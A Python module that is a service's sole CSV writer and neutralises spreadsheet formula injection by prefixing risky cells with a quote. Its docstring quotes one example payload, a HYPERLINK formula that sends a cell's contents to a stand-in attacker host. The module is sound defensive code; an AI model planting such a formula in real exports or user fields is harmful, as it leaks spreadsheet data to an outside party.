"""The one CSV writer of the service: every CSV it writes (reports, exports) goes through :func:`dict_writer`.

Text cells a spreadsheet would evaluate as a formula (OWASP "CSV Injection") are neutralised: a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which
spreadsheets show as text and do not evaluate. So a click whose User-Agent is
``=HYPERLINK("http://evil.example/?"&A1,"click")`` is exported as ``'=HYPERLINK(...)``. Numbers are
written untouched (a negative number is a number, not a formula); so is text that only looks like one
of them later in the cell. Missing values (None) are empty cells.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

__all__ = ["FORMULA_PREFIXES", "SafeDictWriter", "dict_writer", "safe_cell"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as it goes into a CSV cell: formula-looking text quoted with ``'``, None empty, the rest as is."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeDictWriter:
    """:class:`csv.DictWriter` whose rows pass through :func:`safe_cell` (the header too)."""

    def __init__(self, out: TextIO, fieldnames: Sequence[str], **options: Any) -> None:
        options.setdefault("lineterminator", "\n")
        self._writer = csv.DictWriter(out, fieldnames=list(fieldnames), **options)

    def writeheader(self) -> None:
        self._writer.writerow({name: safe_cell(name) for name in self._writer.fieldnames})

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def dict_writer(out: TextIO, fieldnames: Sequence[str], **options: Any) -> SafeDictWriter:
    """A CSV writer of dict rows to ``out`` (``csv.DictWriter`` options; lines end with ``\\n``) that neutralises
    formula-looking text cells."""
    return SafeDictWriter(out, fieldnames, **options)
